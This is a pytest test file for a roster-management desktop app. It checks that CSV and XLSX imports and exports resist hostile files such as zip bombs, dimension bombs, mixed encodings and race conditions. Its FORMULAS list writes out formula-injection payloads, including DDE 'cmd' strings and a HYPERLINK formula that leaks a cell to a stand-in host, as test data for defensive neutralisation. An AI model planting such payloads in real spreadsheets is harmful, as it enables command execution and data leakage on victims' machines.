"""Issue 17, exports and imports: a file from a USB stick never harms the live data.

Formula injection (CSV and XLSX exports), files built to exhaust memory or time, encodings
that cannot be read wholly, endless error lists, and an import that plans outside its write
transaction. Every hostile file here is generated; each must end in a plain InputFileError
(or a report), quickly, with nothing written.
"""

from __future__ import annotations

import contextlib
import threading
import time
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from kinerja_desktop.errors import DatabaseLockedError, InputFileError
from kinerja_desktop.services import roster_io, tables
from kinerja_desktop.services.roster import RosterService
from kinerja_desktop.services.roster_io import (MAX_PROBLEMS, ImportOutdated, apply_import,
                                                export_roster, import_roster, plan_import,
                                                roster_records)
from kinerja_desktop.services.tables import needs_quote, neutralise, restore, write_table
from kinerja_desktop.storage.database import open_database
from tests.helpers import hostile_files as hostile
from tests.helpers.other_program import OtherProgram
from tests.helpers.dump import dump_database
from tests.helpers.tables import HEADER, read_table, row, write_csv

BUDI = "197001011990031002"
SITI = "198512312010012003"

# What the adversary wrote into a roster (and what staff sometimes really type).
FORMULAS = [
    '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik di sini")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "-",
    "'=sudah diawali apostrof",
    "''+dua apostrof",
]


def hostile_rows() -> list[list[object]]:
    return [
        row(BUDI, FORMULAS[0], FORMULAS[1], FORMULAS[2], gelar_depan=FORMULAS[4],
            gelar_belakang=FORMULAS[5], jabatan_sebelumnya=FORMULAS[3], nomor_sk=FORMULAS[6],
            tanggal_pelantikan="2019-06-14"),
        row(SITI, FORMULAS[7], "Kepala Bagian Umum", "@Sekretariat Daerah",
            nomor_sk="-12/Kep/2019", jabatan_sebelumnya="+62 Kantor Camat"),
    ]


@pytest.fixture
def hostile_db(db, tmp_path):
    """A database holding the formula-like values exactly (imported from a CSV in the export's
    own form, each cell neutralised)."""
    source = write_csv(tmp_path / "sumber.csv", HEADER,
                       [[neutralise(c) for c in r] for r in hostile_rows()], delimiter=";")
    report = import_roster(db, source)
    assert report.ok and report.new == 2, [p.describe() for p in report.problems]
    stored = {r["nip"]: r for r in roster_records(db)}
    assert (stored[BUDI]["nama"], stored[BUDI]["jabatan"], stored[BUDI]["nomor_sk"],
            stored[SITI]["nama"]) == (FORMULAS[0], FORMULAS[1], FORMULAS[6], FORMULAS[7])
    return db


def test_a_foreign_csv_with_formulas_imports_them_as_text(db, tmp_path):
    """Someone else's CSV carries no apostrophes: its cells are read as they stand."""
    source = write_csv(tmp_path / "asing.csv", HEADER, hostile_rows()[:1])
    assert import_roster(db, source).ok
    (record,) = roster_records(db)
    assert (record["nama"], record["jabatan"], record["unit_kerja"]) == tuple(FORMULAS[:3])


# 1. Formulas stay text -------------------------------------------------------------------

@pytest.mark.parametrize("text", FORMULAS + ["", "'", "''", "a=b", "\tTab", "\rCR", "'\t",
                                             "196608011988031001", "'196608011988031001",
                                             "Budi", "-5", "'abc"])
def test_neutralise_and_restore_are_exact_inverses(text):
    written = neutralise(text)
    assert restore(written) == text
    assert not str(written).startswith(tables.FORMULA_START)  # no spreadsheet runs it
    assert (written != text) == needs_quote(text)


def test_only_text_is_neutralised_numbers_and_dates_are_not(tmp_path):
    path = tmp_path / "angka.csv"
    write_table(path, ["teks", "angka", "tanggal"], [["-5", -5, date(2019, 6, 14)],
                                                     ["@x", -2.5, None]])
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[1:] == ["'-5;-5;2019-06-14", "'@x;-2.5;"]


def test_csv_export_neutralises_formulas_and_round_trips(hostile_db, tmp_path):
    before = list(roster_records(hostile_db))
    path = tmp_path / "ekspor.csv"
    export_roster(hostile_db, path)
    text = path.read_text(encoding="utf-8-sig")
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(";")]
    assert not [c for c in cells if c.lstrip('"').startswith(tables.FORMULA_START)]
    assert "'+cmd|' /C calc'!A0" in cells and "'@Sekretariat Daerah" in cells
    assert "'-" in cells and "'''+dua apostrof" in cells
    fresh = open_database(tmp_path / "baru.db")
    try:
        report = import_roster(fresh, path)
        assert report.ok and report.problems == [], [p.describe() for p in report.problems]
        assert list(roster_records(fresh)) == before
    finally:
        fresh.close()


def test_xlsx_export_writes_formulas_as_text_cells_and_round_trips(hostile_db, tmp_path):
    before = list(roster_records(hostile_db))
    path = tmp_path / "ekspor.xlsx"
    export_roster(hostile_db, path)
    book = load_workbook(path)  # not read-only: data_type and style as Excel will see them
    try:
        cells = [c for r in book.worksheets[0].iter_rows(min_row=2) for c in r
                 if isinstance(c.value, str) and c.value]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        formula_like = [c for c in cells if c.value.startswith(tables.FORMULA_START)]
        assert {c.value for c in formula_like} >= set(FORMULAS[:6])
        assert all(c.data_type == "s" and c.quotePrefix for c in formula_like)
    finally:
        book.close()
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
    fresh = open_database(tmp_path / "baru.db")
    try:
        report = import_roster(fresh, path)
        assert report.ok and report.problems == []
        assert list(roster_records(fresh)) == before
    finally:
        fresh.close()


def test_a_leading_apostrophe_before_a_nip_is_still_a_text_marker(db, tmp_path):
    path = write_csv(tmp_path / "nip.csv", HEADER, [row("'" + BUDI, "Budi", "Kepala", "Dinas")],
                     delimiter=";")
    report = import_roster(db, path)
    assert report.ok and [r["nip"] for r in roster_records(db)] == [BUDI]


def test_control_characters_do_not_break_an_xlsx_export(db, tmp_path):
    import_roster(db, write_csv(tmp_path / "a.csv", HEADER, [row(BUDI, "Budi", "Kepala",
                                                                  "Dinas")]))
    db.execute_sql("UPDATE official SET name = ? WHERE nip = ?", ("Bu\x01di\x1f", BUDI))
    export_roster(db, tmp_path / "ekspor.xlsx")  # openpyxl refuses these: not a traceback
    assert read_table(tmp_path / "ekspor.xlsx").rows[0][1][1] == "Bu\ufffddi\ufffd"


# 2. XLSX bounds, checked before anything large is built ----------------------------------

def quickly(seconds: float):
    """Assert the block ran within `seconds` (generous: slow CI machines)."""
    @contextlib.contextmanager
    def timer():
        started = time.perf_counter()
        yield
        assert time.perf_counter() - started < seconds
    return timer()


def test_dimension_bomb_is_refused_quickly(db, tmp_path):
    path = hostile.dimension_bomb(tmp_path / "kecil.xlsx")
    assert path.stat().st_size < 5000
    before = dump_database(db)
    with quickly(5), pytest.raises(InputFileError) as caught:
        import_roster(db, path)
    assert "A1:XFD1048576" in str(caught.value) and "100.000 baris" in str(caught.value)
    assert dump_database(db) == before


def test_a_row_far_below_without_a_declared_size_is_refused_while_streaming(db, tmp_path):
    path = hostile.undeclared_far_row(tmp_path / "jauh.xlsx")
    with quickly(20), pytest.raises(InputFileError, match="lebih dari 100.000 baris data"):
        plan_import(db, path)


def test_empty_rows_far_below_are_only_blank_rows(db, tmp_path):
    """Formatting a sheet's empty rows (row elements without values) is not data."""
    cells = [hostile.inline(f"{column}2", text) for column, text
             in zip("ABCD", (BUDI, "Budi", "Kepala", "Dinas"), strict=True)]
    rows = (hostile.header_row() + '<row r="2">' + "".join(cells) + "</row>"
            + '<row r="500000" customFormat="1"><c r="A500000"/></row>')
    path = hostile.write_parts(tmp_path / "format.xlsx", hostile.sheet(rows))
    with quickly(20):
        report = import_roster(db, path)
    assert report.ok and report.new == 1


def test_a_cell_far_to_the_right_is_refused(db, tmp_path):
    with pytest.raises(InputFileError, match="Baris 2 .* lebih dari 50 kolom"):
        plan_import(db, hostile.undeclared_wide_row(tmp_path / "lebar.xlsx"))


def test_zip_bomb_is_refused_before_unpacking(db, tmp_path):
    path = hostile.ratio_bomb(tmp_path / "bom.xlsx", megabytes=40)
    assert path.stat().st_size < 200_000
    with quickly(5), pytest.raises(InputFileError, match="dimampatkan .* kali"):
        plan_import(db, path)


def test_a_part_declaring_gigabytes_is_refused(db, tmp_path):
    path = hostile.declared_size_bomb(tmp_path / "raksasa.xlsx")
    with quickly(5), pytest.raises(InputFileError, match="lebih dari 256 MB"):
        plan_import(db, path)


def test_thousands_of_parts_are_refused(db, tmp_path):
    with pytest.raises(InputFileError, match="lebih dari 1.000 bagian"):
        plan_import(db, hostile.many_parts(tmp_path / "bagian.xlsx"))


def test_a_file_too_large_to_be_a_roster_is_refused_unread(db, tmp_path, monkeypatch):
    monkeypatch.setattr(tables, "MAX_FILE_BYTES", 1000)
    path = write_csv(tmp_path / "besar.csv", HEADER, [row(BUDI, "Budi " * 100, "K", "D")] * 5)
    with pytest.raises(InputFileError, match="terlalu besar"):
        plan_import(db, path)


@pytest.mark.parametrize("make, words", [
    (hostile.password_protected, "dilindungi kata sandi"),
    (hostile.encrypted_part, "dilindungi kata sandi"),
    (hostile.legacy_xls, "Excel lama (.xls)"),
    (hostile.ods, "OpenDocument (.ods)"),
    (hostile.zip_without_workbook, "bukan berkas Excel"),
    (lambda p: p.write_bytes(b"%PDF-1.7\n" + b"\x00" * 200), "bukan berkas Excel"),
    (lambda p: p.write_text("nip;nama\n1;Budi\n", encoding="utf-8"), "bukan berkas Excel"),
])
def test_what_is_not_an_xlsx_is_named(db, tmp_path, make, words):
    path = tmp_path / "pejabat.xlsx"
    make(path)
    with pytest.raises(InputFileError) as caught:
        plan_import(db, path)
    assert words in str(caught.value)
    assert "\n" not in str(caught.value)


def test_a_truncated_xlsx_is_named(db, tmp_path):
    whole = tmp_path / "utuh.xlsx"
    export_roster(db, whole)  # an empty roster: a real workbook all the same
    cut = tmp_path / "terpotong.xlsx"
    for size in (len(whole.read_bytes()) // 2, len(whole.read_bytes()) - 10):
        cut.write_bytes(whole.read_bytes()[:size])
        with pytest.raises(InputFileError, match="bukan berkas Excel"):
            plan_import(db, cut)


# 3. The error list stops --------------------------------------------------------------------

def bad_rows_csv(path, count):
    lines = ["nip;nama;jabatan;unit_kerja"] + [f"{n};=HYPERLINK(\"x\");+cmd;@SUM(1)"
                                                for n in range(count)]
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def test_the_problem_list_stops_after_200_with_a_count(db, tmp_path):
    report = plan_import(db, bad_rows_csv(tmp_path / "salah.csv", 5000))
    assert len(report.problems) == MAX_PROBLEMS + 1
    last = report.problems[-1]
    assert last.describe() == "… dan 4800 masalah lain, 4800 di antaranya kesalahan."
    assert not last.is_error and last.row is None
    assert report.error_count == 5000 and not report.ok and not report.applied


def test_100_000_bad_rows_give_200_problems_in_reasonable_time(db, tmp_path):
    path = bad_rows_csv(tmp_path / "salah.csv", 100_000)
    before = dump_database(db)
    started = time.perf_counter()
    report = import_roster(db, path)
    took = time.perf_counter() - started
    assert len(report.problems) == MAX_PROBLEMS + 1 and report.error_count == 100_000
    assert took < 30, took
    assert dump_database(db) == before


def test_a_million_row_csv_is_refused_quickly(db, tmp_path):
    path = bad_rows_csv(tmp_path / "sejuta.csv", 1_000_000)
    started = time.perf_counter()
    with pytest.raises(InputFileError, match="lebih dari 100.000 baris data"):
        import_roster(db, path)
    assert time.perf_counter() - started < 20


def test_too_many_columns_in_a_csv_row_is_refused_with_its_row(db, tmp_path):
    path = tmp_path / "lebar.csv"
    path.write_text("nip;nama;jabatan;unit_kerja\n" + f"{BUDI};Budi;K;D\n"
                    + ";".join(["x"] * 60) + "\n", encoding="utf-8")
    with pytest.raises(InputFileError, match="Baris 3 .* lebih dari 50 kolom"):
        plan_import(db, path)


def test_trailing_empty_columns_are_not_columns(db, tmp_path):
    path = tmp_path / "titik-koma.csv"
    path.write_text("nip;nama;jabatan;unit_kerja" + ";" * 80 + "\n"
                    + f"{BUDI};Budi;Kepala;Dinas" + ";" * 80 + "\n", encoding="utf-8")
    assert import_roster(db, path).new == 1


# 4. One encoding, no NUL --------------------------------------------------------------------

GOOD = "nip;nama;jabatan;unit_kerja\r\n"


def test_nul_bytes_are_refused_with_the_row(db, tmp_path):
    path = tmp_path / "berisi-nul.csv"  # "nul.csv" is the NUL device on Windows
    path.write_bytes((GOOD + f"{BUDI};Budi;Kepala;Dinas\r\n{SITI};Si\x00ti;Kepala;Dinas\r\n")
                     .encode("utf-8"))
    with pytest.raises(InputFileError) as caught:
        plan_import(db, path)
    assert str(caught.value).startswith("Baris 3 ") and "NUL" in str(caught.value)


def test_utf16_without_its_mark_is_refused_not_garbled(db, tmp_path):
    path = tmp_path / "utf16.csv"
    path.write_bytes((GOOD + f"{BUDI};Budi;Kepala;Dinas\r\n").encode("utf-16-le"))
    with pytest.raises(InputFileError, match="Baris 1 .*NUL"):
        plan_import(db, path)


def test_mixed_encodings_are_refused_with_the_row(db, tmp_path):
    path = tmp_path / "campur.csv"
    path.write_bytes(GOOD.encode() + f"{BUDI};Budi Sétiawan;Kepala;Dinas\r\n".encode()
                     + b'"Siti\r\nAminah";x;y\r\n'
                     + f"{SITI};Siti Hérawati;Kepala;Dinas\r\n".encode("cp1252"))
    with pytest.raises(InputFileError) as caught:
        plan_import(db, path)
    message = str(caught.value)
    assert "mencampur dua pengodean" in message and "baris 4 " in message  # a record, not a line


def test_mixed_encodings_behind_a_utf8_mark_are_refused(db, tmp_path):
    path = tmp_path / "campur-bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + GOOD.encode()
                     + f"{SITI};Siti Hérawati;Kepala;Dinas\r\n".encode("cp1252"))
    with pytest.raises(InputFileError, match="mencampur dua pengodean.*baris 2 "):
        plan_import(db, path)


def test_bytes_that_are_not_windows_1252_either_are_refused(db, tmp_path):
    path = tmp_path / "biner.csv"
    path.write_bytes(GOOD.encode() + f"{BUDI};Budi;Kepala;Dinas\r\n".encode()
                     + b"\x81\x8d\x8f;x;y;z\r\n")
    with pytest.raises(InputFileError, match="^Baris 3 .*Windows-1252"):
        plan_import(db, path)


def test_truncated_utf16_is_refused(db, tmp_path):
    path = tmp_path / "utf16.csv"
    path.write_bytes((GOOD + f"{BUDI};Budi;Kepala;Dinas\r\n").encode("utf-16") + b"\x41")
    with pytest.raises(InputFileError, match="^Baris 3 .*UTF-16"):
        plan_import(db, path)


def test_pure_windows_1252_is_still_read_with_a_warning(db, tmp_path):
    path = tmp_path / "lama.csv"
    path.write_bytes((GOOD + f"{BUDI};Budi Sétiawan;Kepala;Dinas\r\n").encode("cp1252"))
    report = import_roster(db, path)
    assert report.applied and "Windows-1252" in report.warnings[0].message


# 5. Plan and write in one write transaction --------------------------------------------------

def one_official(db, tmp_path, front_title: str = "Dr.") -> None:
    report = import_roster(db, write_csv(tmp_path / "awal.csv", HEADER, [
        row(BUDI, "Budi", "Kepala Dinas", "Dinas Pariwisata", gelar_depan=front_title)]))
    assert report.applied


def other_connection(db) -> OtherProgram:
    """Another program writing the same database (its own connection, as another process or
    a colleague's PC has)."""
    return OtherProgram(db)


def front_title(db) -> str:
    (value,) = db.execute_sql("SELECT front_title FROM official WHERE nip = ?",
                              (BUDI,)).fetchone()
    return value


def test_a_change_committed_while_the_import_plans_is_not_overwritten(db, tmp_path, monkeypatch):
    """Adversary's case: another program commits while the import plans. Before, the plan's
    stale copy of the official was written over it (4 of 4 tries)."""
    one_official(db, tmp_path)
    source = write_csv(tmp_path / "ubah.csv", HEADER, [row(BUDI, "Budi Santoso", "Kepala Dinas",
                                                           "Dinas Pariwisata")])
    writer_done = threading.Event()
    locked_out: list[str] = []
    real = roster_io.bulk.officials_with_posts
    started: list[bool] = []

    def other_program_writes() -> None:
        with contextlib.closing(other_connection(db)) as other:
            other.execute("UPDATE official SET front_title = 'Prof.' WHERE nip = ?", (BUDI,))
        writer_done.set()

    def planning(database, official_ids):
        found = real(database, official_ids)  # the plan has read the official: now write
        if not started:
            started.append(True)
            # A writer that cannot wait is refused at once: the import holds the write lock.
            with contextlib.closing(OtherProgram(db, wait_s=0)) as impatient:
                try:
                    impatient.execute("UPDATE official SET back_title = 'x' WHERE nip = ?",
                                      (BUDI,))
                except impatient.locked as exc:
                    locked_out.append(str(exc))
            threading.Thread(target=other_program_writes, daemon=True).start()
            writer_done.wait(1.0)  # it waits for the import (before: it committed here)
        return found

    monkeypatch.setattr(roster_io.bulk, "officials_with_posts", planning)
    report = import_roster(db, source)
    assert report.applied and report.updated == 1
    assert len(locked_out) == 1  # SQLite: "database is locked"; a server: a lock timeout
    assert "locked" in locked_out[0] or "lock timeout" in locked_out[0]
    assert writer_done.wait(30)
    assert front_title(db) == "Prof."  # the other program's change stands
    (name,) = db.execute_sql("SELECT name FROM official WHERE nip = ?", (BUDI,)).fetchone()
    assert name == "Budi Santoso"  # and so does the import's


def test_a_change_between_checking_and_importing_refuses_the_import(db, tmp_path):
    """The window checks a file, the user reads the report, another program writes, the user
    presses Import: the plan shown is stale, so nothing is written and the user is told."""
    one_official(db, tmp_path)
    report = plan_import(db, write_csv(tmp_path / "ubah.csv", HEADER, [
        row(BUDI, "Budi Santoso", "Kepala Dinas", "Dinas Pariwisata")]))
    assert report.ok and report.updated == 1
    with contextlib.closing(other_connection(db)) as other:
        other.execute("UPDATE official SET front_title = 'Prof.' WHERE nip = ?", (BUDI,))
    before = dump_database(db)
    with pytest.raises(ImportOutdated, match="berubah sejak berkas diperiksa"):
        apply_import(db, report)
    assert not report.applied
    assert dump_database(db) == before and front_title(db) == "Prof."
    again = plan_import(db, tmp_path / "ubah.csv")  # checked again: now it is written
    apply_import(db, again)
    assert front_title(db) == "Prof." and RosterService(db).get(
        again.plans[0].official_id).name == "Budi Santoso"


def test_an_unrelated_change_between_checking_and_importing_does_not_block(db, tmp_path):
    one_official(db, tmp_path)
    report = plan_import(db, write_csv(tmp_path / "baru.csv", HEADER, [
        row(SITI, "Siti Aminah", "Sekretaris", "Dinas Pariwisata")]))
    with contextlib.closing(other_connection(db)) as other:
        other.execute("UPDATE official SET front_title = 'Prof.' WHERE nip = ?", (BUDI,))
    apply_import(db, report)
    assert report.applied and front_title(db) == "Prof."


def test_an_import_waits_for_another_writer_then_says_the_database_is_busy(db, tmp_path):
    one_official(db, tmp_path)
    source = write_csv(tmp_path / "ubah.csv", HEADER, [row(BUDI, "Budi Santoso", "Kepala Dinas",
                                                           "Dinas Pariwisata")])
    db.execute_sql("SET lock_timeout = '200ms'" if db.is_server else "PRAGMA busy_timeout = 200")
    with contextlib.closing(other_connection(db)) as other:
        other.execute("BEGIN IMMEDIATE")
        other.execute("UPDATE official SET front_title = 'Prof.' WHERE nip = ?", (BUDI,))
        with pytest.raises(DatabaseLockedError, match="sedang dipakai"):
            import_roster(db, source)
        other.execute("COMMIT")
    assert front_title(db) == "Prof."  # only the other program's change
    (name,) = db.execute_sql("SELECT name FROM official WHERE nip = ?", (BUDI,)).fetchone()
    assert name == "Budi"
